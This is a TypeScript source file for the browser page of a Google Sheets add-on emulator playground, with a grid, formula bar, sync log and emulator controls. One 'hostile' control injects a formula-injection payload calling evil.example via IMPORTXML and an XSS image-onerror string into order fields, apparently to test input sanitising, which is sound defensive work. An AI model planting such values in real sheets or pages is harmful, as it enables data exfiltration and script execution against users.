/**
 * The playground page: the workbook as Sheets shows it (tabs in the workbook's order, a
 * virtualized grid of displayed values, a formula bar to type into cells), the Sync log, and the
 * emulator's controls, which answer in words. Every value is shown as text.
 */
import { renderCharts, type ChartViewData } from './charts';
import { describeControl, describeScheduledRun } from './control-words';
import { columnLetters, VirtualGrid, type GridCell, type GridSheet, type Selection } from './grid';

interface TriggerView {
  uid: string;
  handlerFunction: string;
  type: string;
  everyHours?: number;
  atHour?: number;
}
interface SheetsView {
  timeZone: string;
  sheets: GridSheet[];
  triggers: TriggerView[];
}
type Reply = { ok: true; value?: unknown } | { ok: false; error: { name: string; message: string } };

const SYNC_LOG = 'Sync log';
const LOG_ROWS = 50;
/** The tab the user chose (Orders until then); shown as soon as it exists, e.g. after the first sync. */
let chosen = 'Orders';
let view: SheetsView | null = null;
const seenLastRow = new Map<string, number>();

function byId<T extends HTMLElement>(id: string): T {
  return document.getElementById(id) as T;
}

async function getJson<T>(path: string): Promise<T> {
  const response = await fetch(path);
  const body = (await response.json()) as T & { ok?: boolean; error?: { message: string } };
  if (!response.ok) throw new Error(body.error?.message ?? `HTTP ${response.status}`);
  return body;
}

async function post(path: string, body: unknown): Promise<Reply & Record<string, unknown>> {
  const response = await fetch(path, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify(body),
  });
  return (await response.json()) as Reply & Record<string, unknown>;
}

async function fetchRows(sheet: string, from: number, count: number): Promise<Array<Array<GridCell | null>>> {
  const window = await getJson<{ rows: Array<Array<GridCell | null>> }>(
    `/playground/cells?sheet=${encodeURIComponent(sheet)}&from=${from}&count=${count}`,
  );
  return window.rows;
}

// ---- formula bar ---------------------------------------------------------------------------------

const formulaInput = byId<HTMLInputElement>('formula-input');
let editing: { sheet: string; row: number; column: number } | null = null;

function showSelection(selection: Selection): void {
  const sheet = grid.current;
  if (!sheet) return;
  byId('cell-ref').textContent = `${columnLetters(selection.column)}${selection.row}`;
  editing = { sheet: sheet.name, row: selection.row, column: selection.column };
  if (document.activeElement !== formulaInput) formulaInput.value = selection.cell?.edit ?? selection.cell?.t ?? '';
  formulaInput.disabled = false;
}

const grid = new VirtualGrid(byId('grid'), fetchRows, showSelection);
grid.overlay.append(byId('charts'));

async function commitEdit(): Promise<void> {
  if (!editing) return;
  const target = editing;
  const input = formulaInput.value;
  byId('formula-status').textContent = input.startsWith('=') ? 'Calculating…' : '';
  const reply = await post('/playground/cell', { ...target, input });
  byId('formula-status').textContent = reply.ok === false ? reply.error.message : '';
  // Meanwhile the user may have clicked another cell and typed into it: as in Sheets, an entry
  // still computing leaves that selection and that entry alone.
  const movedOn = (): boolean =>
    editing === null ||
    editing.sheet !== target.sheet ||
    editing.row !== target.row ||
    editing.column !== target.column;
  if (!movedOn()) formulaInput.blur();
  await refreshSheets(true);
  if (!movedOn()) grid.select(target.row + 1, target.column);
}

formulaInput.addEventListener('keydown', (event) => {
  if (event.key === 'Enter') {
    event.preventDefault();
    void commitEdit();
  } else if (event.key === 'Escape') {
    formulaInput.blur();
    const at = grid.selection;
    if (at) grid.select(at.row, at.column);
  }
});

byId('grid').addEventListener('keydown', (event) => {
  const at = grid.selection;
  if (!at || event.ctrlKey || event.metaKey || event.altKey) return;
  const moves: Record<string, [number, number]> = {
    ArrowUp: [-1, 0],
    ArrowDown: [1, 0],
    ArrowLeft: [0, -1],
    ArrowRight: [0, 1],
    Tab: [0, 1],
  };
  const move = moves[event.key];
  if (move) {
    event.preventDefault();
    grid.select(at.row + move[0], at.column + move[1]);
  } else if (event.key === 'Enter' || event.key === 'F2') {
    event.preventDefault();
    formulaInput.focus();
  } else if (event.key.length === 1) {
    // Typing on a selected cell starts an entry, as in Sheets.
    event.preventDefault();
    formulaInput.value = event.key;
    formulaInput.focus();
  } else if (event.key === 'Delete' || event.key === 'Backspace') {
    event.preventDefault();
    formulaInput.value = '';
    void commitEdit();
  }
});

// ---- sheets, tabs, Sync log ------------------------------------------------------------------------

function renderTabs(sheets: GridSheet[], selected: string): void {
  byId('tabs').replaceChildren(
    ...sheets
      .filter((s) => !s.hidden)
      .map((sheet) => {
        const tab = document.createElement('button');
        tab.type = 'button';
        tab.setAttribute('role', 'tab');
        tab.setAttribute('aria-selected', String(sheet.name === selected));
        tab.textContent = sheet.name;
        tab.title = `${sheet.name}: ${Math.max(0, sheet.lastRow - 1).toLocaleString('en-US')} rows below the header`;
        tab.addEventListener('click', () => {
          chosen = sheet.name;
          void refreshSheets(false);
        });
        return tab;
      }),
  );
}

async function renderSyncLog(sheets: GridSheet[]): Promise<void> {
  const log = sheets.find((s) => s.name === SYNC_LOG);
  const table = byId<HTMLTableElement>('sync-log');
  if (!log || log.lastRow < 2) {
    const row = document.createElement('tr');
    const empty = document.createElement('td');
    empty.className = 'empty';
    empty.textContent = 'No runs yet: each sync adds a row here (newest first), with what it wrote and how it ended.';
    row.append(empty);
    table.replaceChildren(row);
    return;
  }
  const first = Math.max(2, log.lastRow - LOG_ROWS + 1);
  const [header, rows] = await Promise.all([
    fetchRows(SYNC_LOG, 1, 1),
    fetchRows(SYNC_LOG, first, log.lastRow - first + 1),
  ]);
  const line = (cells: Array<GridCell | null>, tag: 'th' | 'td'): HTMLTableRowElement => {
    const tr = document.createElement('tr');
    for (let c = 0; c < log.columnCount; c++) {
      const el = document.createElement(tag);
      el.textContent = cells[c]?.t ?? '';
      if (cells[c]?.k === 'n') el.className = 'num';
      if (tag === 'td') el.title = el.textContent;
      tr.append(el);
    }
    return tr;
  };
  const head = document.createElement('thead');
  head.append(line(header[0] ?? [], 'th'));
  const body = document.createElement('tbody');
  body.append(
    ...rows
      .slice()
      .reverse()
      .map((r) => line(r, 'td')),
  );
  table.replaceChildren(head, body);
}

let chartsShown = '';
async function renderSheetCharts(sheet: GridSheet | undefined, changed: boolean): Promise<void> {
  const host = byId<HTMLDivElement>('charts');
  if (!sheet || sheet.charts === 0) {
    chartsShown = '';
    renderCharts(host, [], grid.offsetOf.bind(grid));
    return;
  }
  if (!changed && chartsShown === sheet.name) return;
  chartsShown = sheet.name;
  const { charts } = await getJson<{ charts: ChartViewData[] }>(
    `/playground/charts?sheet=${encodeURIComponent(sheet.name)}`,
  );
  renderCharts(host, charts, grid.offsetOf.bind(grid));
}

function describeTriggers(triggers: TriggerView[]): string {
  if (triggers.length === 0) return 'Triggers: none (set a schedule in the sidebar).';
  return `Triggers: ${triggers.map((t) => `${t.handlerFunction} (${t.everyHours ? `every ${t.everyHours} h` : t.atHour !== undefined ? `daily at ${String(t.atHour).padStart(2, '0')}:00` : t.type})`).join(', ')}`;
}

let refreshing: Promise<void> | null = null;
let again = false;
let pollTimer = 0;

/** Reads the sheets again; `data` = the workbook may have changed (re-read the rows in view). */
function refreshSheets(data: boolean): Promise<void> {
  if (refreshing) {
    again ||= data;
    return refreshing;
  }
  refreshing = (async () => {
    try {
      await refreshOnce(data);
    } catch (error) {
      byId('sheet-info').textContent =
        `Could not read the workbook: ${error instanceof Error ? error.message : String(error)}`;
    } finally {
      refreshing = null;
      if (again) {
        again = false;
        void refreshSheets(true);
      }
    }
  })();
  return refreshing;
}

async function refreshOnce(data: boolean): Promise<void> {
  view = await getJson<SheetsView>('/playground/sheets');
  const visible = view.sheets.filter((s) => !s.hidden);
  const selected = visible.find((s) => s.name === chosen) ?? visible[0];
  renderTabs(view.sheets, selected?.name ?? '');
  byId('triggers').textContent = describeTriggers(view.triggers);
  if (!selected) {
    byId('sheet-info').textContent = 'No sheets yet.';
    return;
  }
  const sameSheet = grid.current?.name === selected.name;
  grid.show(selected, data);
  if (!sameSheet) {
    byId('cell-ref').textContent = '';
    formulaInput.value = '';
    formulaInput.disabled = true;
    editing = null;
  }
  const before = seenLastRow.get(selected.name);
  seenLastRow.set(selected.name, selected.lastRow);
  // Rows just written to the sheet on show: jump to the first of them and mark them.
  if (sameSheet && before !== undefined && selected.lastRow > before && before > 0) {
    grid.scrollToRow(before + 1, { from: before + 1, to: selected.lastRow });
  }
  const dataRows = Math.max(0, selected.lastRow - selected.frozenRows);
  byId('sheet-info').textContent =
    `${selected.name}: ${dataRows.toLocaleString('en-US')} ${selected.frozenRows ? 'data ' : ''}rows` +
    `${selected.frozenRows ? `, ${selected.frozenRows} frozen` : ''}. Times in ${view.timeZone} (the spreadsheet's time zone).`;
  await Promise.all([renderSyncLog(view.sheets), renderSheetCharts(selected, data || !sameSheet)]);
  const orderId = byId<HTMLInputElement>('order-id');
  if (!orderId.value && view.sheets.some((s) => s.name === 'Orders' && s.lastRow >= 2)) {
    const first = (await fetchRows('Orders', 2, 1))[0]?.[0]?.t;
    // Only into an empty field nobody is typing in: the rows were read while the user may have begun.
    if (first && !orderId.value && document.activeElement !== orderId) orderId.value = first;
  }
  window.clearTimeout(pollTimer);
  // Formulas still running: look again shortly (as Sheets shows "Loading..." until they answer). The
  // page says so, for whoever must wait until the grid stops being drawn again.
  const computing = view.sheets.some((s) => s.computing);
  document.body.dataset.computing = String(computing);
  if (computing) pollTimer = window.setTimeout(() => void refreshSheets(true), 500);
}

// ---- controls ---------------------------------------------------------------------------------------

function numberOf(id: string): number {
  return Number(byId<HTMLInputElement>(id).value);
}

function clockSeconds(): { seconds: number; amount: string } {
  const n = numberOf('advance-amount');
  const unit = byId<HTMLSelectElement>('advance-unit').value;
  const seconds = { minutes: 60, hours: 3600, days: 86_400 }[unit] ?? 3600;
  return { seconds: Math.round(n * seconds), amount: `${n} ${n === 1 ? unit.replace(/s$/, '') : unit}` };
}

function controlRequest(kind: string): { path: string; body?: unknown } {
  const orderId = encodeURIComponent(byId<HTMLInputElement>('order-id').value.trim());
  switch (kind) {
    case 'orders':
      return { path: '/_emulator/orders', body: { count: numberOf('order-count') } };
    case 'change':
      return {
        path: `/_emulator/orders/${orderId}/change`,
        body: { kind: byId<HTMLSelectElement>('change-kind').value },
      };
    case 'hostile':
      return {
        path: `/_emulator/orders/${orderId}/patch`,
        body: {
          attribution: {
            utm_campaign: '=IMPORTXML("http://evil.example/","//a")',
            utm_source: '<img src=x onerror=alert(1)>',
          },
        },
      };
    case 'vanish':
      return { path: `/_emulator/orders/${orderId}/vanish` };
    case 'revoke':
      return { path: '/_emulator/grants/revoke' };
    case 'switch-store':
      return { path: '/_emulator/grants/switch-store' };
    case 'disable-client':
      return { path: '/_emulator/client/disable', body: { disabled: true } };
    case 'enable-client':
      return { path: '/_emulator/client/disable', body: { disabled: false } };
    case 'clear-faults':
      return { path: '/_emulator/faults/clear' };
    default:
      return {
        path: '/_emulator/faults',
        body: {
          status: Number(byId<HTMLSelectElement>('fault-status').value),
          count: numberOf('fault-count'),
          path_prefix: '/api/v1/',
        },
      };
  }
}

async function withResult(
  label: string,
  action: () => Promise<Reply>,
  words: (value: unknown) => string,
): Promise<void> {
  const result = byId('control-result');
  const buttons = document.querySelectorAll<HTMLButtonElement>('#controls button');
  buttons.forEach((b) => (b.disabled = true));
  result.textContent = `${label}…`;
  try {
    const reply = await action();
    result.textContent = reply.ok ? `${label}: done. ${words(reply.value)}` : `${label} failed: ${reply.error.message}`;
  } catch (error) {
    result.textContent = `${label} failed: ${String(error)}`;
  } finally {
    buttons.forEach((b) => (b.disabled = false));
    await refreshSheets(true);
  }
}

document.querySelectorAll<HTMLButtonElement>('[data-control]').forEach((button) => {
  button.addEventListener('click', () => {
    const kind = button.dataset.control ?? '';
    const context = {
      timeZone: view?.timeZone ?? 'UTC',
      amount: clockSeconds().amount,
      changeKind: byId<HTMLSelectElement>('change-kind').value,
      faultStatus: byId<HTMLSelectElement>('fault-status').value,
    };
    // The clock moves both clocks (the add-on's and the store's) through the playground, not the emulator alone.
    const action =
      kind === 'clock'
        ? () => post('/playground/clock', { seconds: clockSeconds().seconds })
        : () => post('/playground/control', controlRequest(kind));
    void withResult(button.textContent ?? 'Control', action, (value) => describeControl(kind, value, context));
  });
});
byId('fire-trigger').addEventListener(
  'click',
  () => void withResult('Scheduled trigger', () => post('/playground/trigger', {}), describeScheduledRun),
);
byId('open-report').addEventListener('click', () => {
  byId('control-result').textContent = 'Report: adding the example formulas and running them…';
  void post('/playground/report', {}).then(async (reply) => {
    byId('control-result').textContent = reply.ok
      ? 'Report: click a cell to see its formula, or type your own (start with =).'
      : `Report failed: ${reply.error.message}`;
    chosen = 'Report';
    await refreshSheets(true);
  });
});
byId('refresh-formulas').addEventListener('click', () => {
  void withResult(
    'Refresh formulas',
    () => post('/playground/run', { name: 'refreshFormulasFromMenu', args: [] }),
    () => 'Every cell using a Merchant Analytics function recalculates.',
  );
});
byId('goto-form').addEventListener('submit', (event) => {
  event.preventDefault();
  const row = numberOf('goto-row');
  if (Number.isInteger(row) && row >= 1) grid.scrollToRow(row);
});
byId('last-row').addEventListener('click', () => {
  const sheet = grid.current;
  if (sheet) grid.scrollToRow(Math.max(1, sheet.lastRow - 5));
});
async function gridEdit(label: string, edit: Record<string, unknown>): Promise<void> {
  const sheet = grid.current;
  if (!sheet) return;
  const reply = await post('/playground/grid', { sheet: sheet.name, ...edit });
  byId('control-result').textContent = reply.ok ? `${label}: done.` : `${label} failed: ${reply.error.message}`;
  if (reply.ok && edit.edit === 'rename-sheet') chosen = String(edit.name).trim();
  await refreshSheets(true);
}
byId('delete-row').addEventListener('click', () => {
  const at = grid.selection;
  if (at) void gridEdit(`Delete row ${at.row}`, { edit: 'delete-row', row: at.row });
  else byId('control-result').textContent = 'Delete row: click a cell of the row first.';
});
byId('insert-column').addEventListener('click', () => {
  const at = grid.selection;
  if (at)
    void gridEdit(`Insert 1 column left of ${columnLetters(at.column)}`, { edit: 'insert-column', column: at.column });
  else byId('control-result').textContent = 'Insert column: click a cell of the column first.';
});
byId('rename-form').addEventListener('submit', (event) => {
  event.preventDefault();
  void gridEdit('Rename sheet', { edit: 'rename-sheet', name: byId<HTMLInputElement>('sheet-name').value });
});
byId('reload-sidebar').addEventListener('click', () => {
  byId<HTMLIFrameElement>('sidebar').contentWindow?.location.reload();
});
window.addEventListener('message', (event) => {
  const data = event.data as { type?: string } | null;
  if (data && data.type === 'playground:ran') {
    // Inserting the dashboard shows it, as Sheets shows the sheet the add-on just filled.
    if ((data as { name?: string }).name === 'insertDashboard') chosen = 'Dashboard';
    void refreshSheets(true);
  }
});
void refreshSheets(true);
